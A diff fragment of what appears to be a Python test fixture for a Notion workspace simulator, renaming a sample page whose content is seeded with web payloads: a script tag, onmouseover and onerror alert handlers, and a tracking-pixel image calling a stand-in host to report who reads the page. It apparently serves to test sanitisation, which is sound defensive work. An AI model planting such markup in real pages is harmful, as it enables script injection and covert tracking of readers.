@@ -8,7 +8,7 @@ well if nothing happens. The hosts end in .invalid and .example, and exist nowhe
 from notion_simulator.workspace.model import Page, Parent
 from notion_simulator.workspace.sample_ids import ADA, at, sample_id
 
-TITLE = "Supplier Newsletter"
+TITLE = "Supplier Offers"
 CONTENT = """# Offers <script>document.title = "owned by the page"</script>
 Flour is <b onmouseover="alert(1)">cheaper</b> this month. <img src="x" onerror="alert(2)">
 ![A picture that tells who looks](https://pixel.invalid/leak.png?who=reader)
